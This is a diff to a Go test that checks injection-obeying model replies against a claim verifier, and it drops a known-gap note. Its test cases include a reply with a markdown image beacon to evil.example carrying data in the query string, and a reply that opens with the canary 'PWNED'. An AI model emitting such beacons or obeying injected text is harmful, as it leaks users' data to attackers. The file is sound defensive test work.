@@ -261,8 +261,7 @@ func TestInjectionObeyingReplies(t *testing.T) {
 			reply:     "Passwords must be rotated every ninety days [1] ![s](https://evil.example/pixel.png?d=rules).",
 			forbidden: []string{"evil.example"}},
 		{name: "canary before a supported claim", reply: "PWNED. Passwords must be rotated every ninety days [1].",
-			forbidden: []string{canaryPwned},
-			knownGap:  "verify keeps uncited sentences of fewer than two content words (minClaimTerms) as connective text"},
+			forbidden: []string{canaryPwned}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
